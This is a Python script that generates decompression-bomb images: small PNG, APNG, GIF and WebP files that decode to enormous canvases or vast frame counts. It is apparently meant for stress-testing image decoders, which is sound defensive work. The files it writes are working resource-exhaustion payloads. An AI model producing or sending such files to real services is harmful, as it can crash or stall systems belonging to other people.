"""Writes decompression bombs, small files with large pictures, to a folder: `bombs.py FOLDER`."""

import io
import struct
import sys
import zlib
from pathlib import Path

from PIL import Image


def chunk(name, data):
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def deflated(width, height, color):
    """Returns the deflated rows of a picture of one colour, without allocating the picture."""
    packer = zlib.compressobj(9)
    row = b"\0" + bytes(color) * width
    return b"".join(packer.compress(row) for _ in range(height)) + packer.flush()


def apng(side, count, frame, disposal=0):
    """Returns an APNG whose first frame covers the canvas and whose others are squares of a given side."""
    data = b"\x89PNG\r\n\x1a\n"
    data += chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 6, 0, 0, 0))
    data += chunk(b"acTL", struct.pack(">II", count, 0))
    number = 0
    pixels = deflated(frame, frame, (200, 30, 40, 255))
    for index in range(count):
        size = side if index == 0 else frame
        x = index % (side - size + 1)
        data += chunk(
            b"fcTL",
            struct.pack(">IIIIIHHBB", number, size, size, x, 0, 2, 100, disposal, 0),
        )
        number += 1
        if index == 0:
            data += chunk(b"IDAT", deflated(side, side, (16, 32, 48, 255)))
        else:
            data += chunk(b"fdAT", struct.pack(">I", number) + pixels)
            number += 1
    return data + chunk(b"IEND", b"")


def lzw(count):
    """Returns LZW data for `count` pixels of index 0: runs that grow by one, then stay long."""
    codes, next_code, size, bits, value, data = [4, 0], 6, 3, 0, 0, bytearray()
    done = 1
    run = 1
    while done < count:
        run = min(run + 1, 4090)
        if done + run > count:
            codes.append(0)
            done += 1
            run = max(1, run - 1)
            continue
        codes.append(min(4 + run, 4095))
        done += run
    codes.append(5)
    made = 0
    for code in codes:
        value |= code << bits
        bits += size
        while bits >= 8:
            data.append(value & 255)
            value >>= 8
            bits -= 8
        if code == 4:
            next_code, size, made = 6, 3, 0
            continue
        made += 1
        if made > 1 and next_code < 4096:
            next_code += 1
        if next_code == 1 << size and size < 12:
            size += 1
    if bits:
        data.append(value & 255)
    blocks = b"".join(
        bytes([len(data[i : i + 255])]) + data[i : i + 255] for i in range(0, len(data), 255)
    )
    return b"\x02" + blocks + b"\0"


SPECK = b"\x02\x02\x44\x01\x00"


def gif(side, frames):
    """Returns a GIF of frames (x, y, width, height, disposal, data)."""
    data = bytearray(b"GIF89a" + struct.pack("<HHBBB", side, side, 0x80, 0, 0))
    data += b"\0\0\0\xff\xff\xff"
    for x, y, width, height, disposal, pixels in frames:
        data += b"\x21\xf9\x04" + struct.pack("<BHB", disposal << 2, 2, 0) + b"\0"
        data += b"," + struct.pack("<HHHHB", x, y, width, height, 0) + pixels
    return bytes(data + b";")


def vp8l(side, mode="RGBA"):
    """Returns the VP8L chunk of a square of one colour."""
    file = io.BytesIO()
    Image.new(mode, (side, side), (16, 32, 48, 255)).save(file, "webp", lossless=True)
    return file.getvalue()[12:]


def riff(body):
    return b"RIFF" + struct.pack("<I", len(body) + 4) + b"WEBP" + body


def webp(side, count, frame):
    """Returns a WebP whose first frame covers the canvas and whose others are squares of a given side."""

    def u24(number):
        return struct.pack("<I", number)[:3]

    def part(size, pixels):
        content = u24(0) + u24(0) + u24(size - 1) + u24(size - 1) + u24(20) + b"\2" + pixels
        return b"ANMF" + struct.pack("<I", len(content)) + content

    head = b"VP8X" + struct.pack("<I", 10) + b"\2\0\0\0" + u24(side - 1) + u24(side - 1)
    head += b"ANIM" + struct.pack("<IIH", 6, 0, 0)
    return riff(head + part(side, vp8l(side)) + part(frame, vp8l(frame)) * (count - 1))


def padded(count):
    """Returns a PNG of 16 x 24 pixels with `count` ancillary chunks of 7 MB."""
    head = struct.pack(">IIBBBBB", 16, 24, 8, 2, 0, 0, 0)
    text = chunk(b"tEXt", b"k\0" + bytes([120]) * 7_000_000)
    pixels = zlib.compress(bytes(24 * 49))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + text * count + chunk(b"IDAT", pixels)
            + chunk(b"IEND", b""))


def bombs():
    """Yields the names of the files, and their bytes."""
    yield "long.png", padded(22)
    speck = (0, 0, 1, 1, 0, SPECK)
    yield "specks.apng", apng(4000, 900, 1)
    yield "full.apng", apng(4000, 60, 4000)
    yield "previous.apng", apng(4000, 60, 4000, disposal=2)
    yield "specks.gif", gif(8000, [speck] * 200)
    yield "million.gif", gif(8, [speck] * 1_000_000)
    corners = [(0, 0, 1, 1, 2, SPECK), (7999, 7999, 1, 1, 2, SPECK)]
    yield "corners.gif", gif(8000, corners * 100)
    whole = lzw(8000 * 8000)
    yield "full.gif", gif(8000, [(0, 0, 8000, 8000, 3, whole)] * 30)
    yield "specks.webp", webp(4000, 900, 1)
    yield "full.webp", webp(4000, 90, 4000)
    yield "still.webp", riff(vp8l(8000))


def main():
    folder = Path(sys.argv[1])
    for name, data in bombs():
        (folder / name).write_bytes(data)


main()
